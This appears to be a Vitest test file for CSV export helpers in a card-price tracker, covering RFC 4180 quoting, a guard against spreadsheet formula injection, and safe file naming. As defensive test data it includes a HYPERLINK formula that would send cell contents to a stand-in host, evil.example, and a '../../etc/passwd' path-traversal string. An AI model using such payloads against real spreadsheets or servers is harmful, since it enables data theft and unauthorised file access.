import { describe, expect, it } from 'vitest';
import { csvCell, csvFile, csvFileName, unguardCell } from './csv-file';

describe('csvCell', () => {
  it('quotes a comma, a quote or a line end (RFC 4180), and nothing else', () => {
    expect(csvCell('Bowman Chrome, 1st')).toBe('"Bowman Chrome, 1st"');
    expect(csvCell('The "Jungle" set')).toBe('"The ""Jungle"" set"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('Base Set #4')).toBe('Base Set #4');
    expect(csvCell('')).toBe('');
  });

  it('writes numbers as numbers (negative too) and nothing as an empty cell', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(1000000)).toBe('1000000');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('puts a quote mark before a text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Charizard")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Charizard"")"',
    );
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-12.5')).toBe("'-12.5");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    // A text already starting with ' before one gets one more, so that reading takes one off.
    expect(csvCell("'=1")).toBe("''=1");
    expect(csvCell("'plain")).toBe("'plain");
    expect(csvCell('a=b')).toBe('a=b');
  });
});

describe('csvFile', () => {
  it('writes the header, then the rows, each line ended by CRLF', () => {
    expect(
      csvFile(
        ['date', 'name', 'value'],
        [
          ['2026-06-01', '=x', 1.5],
          ['2026-06-02', 'a, b', null],
        ],
      ),
    ).toBe('date,name,value\r\n2026-06-01,\'=x,1.5\r\n2026-06-02,"a, b",\r\n');
    expect(csvFile(['date'], [])).toBe('date\r\n');
  });
});

describe('unguardCell', () => {
  it('takes off exactly the quote mark csvCell put on', () => {
    for (const text of ['=1+1', '+x', '-5', '@a', '\tt', '\rr', "'=1", "''@", "'plain", 'plain', "'", '']) {
      const written = csvCell(text);
      const read = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
      expect(unguardCell(read), JSON.stringify(text)).toBe(text);
    }
  });
});

describe('csvFileName', () => {
  it('names a file by its parts, in lower case, without accents or odd characters', () => {
    expect(
      csvFileName([
        'history',
        '1999 Pokémon Base Set Charizard Holo #4',
        'BGS 9.5',
        '2026-01-01',
        'to',
        '2026-06-30',
      ]),
    ).toBe('history-1999-pokemon-base-set-charizard-holo-4-bgs-9.5-2026-01-01-to-2026-06-30.csv');
    expect(csvFileName(['sold', '../../etc/passwd', ''])).toBe('sold-etc-passwd.csv');
    expect(csvFileName(['x', 'a'.repeat(80)])).toBe(`x-${'a'.repeat(60)}.csv`);
  });
});
